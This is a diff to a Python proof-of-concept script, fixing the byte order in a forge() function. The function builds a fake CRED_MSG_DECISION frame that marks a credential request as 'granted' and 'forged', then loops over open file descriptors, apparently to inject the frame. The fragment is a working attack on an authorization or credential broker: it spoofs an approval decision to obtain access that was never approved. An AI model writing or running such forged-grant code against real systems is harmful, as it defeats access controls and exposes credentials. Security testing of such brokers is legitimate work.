@@ -58,8 +58,8 @@ def one(c, step):
         print("%s failed=%r secs=%.2f" % (label, e, time.time() - t0), flush=True)
 def forge():
     # a CRED_MSG_DECISION frame: allow, an id, "granted", for /no/2
-    def s(b): return struct.pack("<I", len(b)) + b
-    body = struct.pack("<IB", 1, 1) + s(b"0" * 32) + s(b"granted") + s(b"forged") + s(b"gh") + s(host.encode()) + s(b"POST") + s(b"/no/2")
+    def s(b): return struct.pack(">I", len(b)) + b
+    body = struct.pack(">IB", 1, 1) + s(b"0" * 32) + s(b"granted") + s(b"forged") + s(b"gh") + s(host.encode()) + s(b"POST") + s(b"/no/2")
     frame = struct.pack(">BBHB3xI", 0xc7, 1, 0x82, 0, len(body)) + body
     n = 0
     for fd in range(3, 1024):
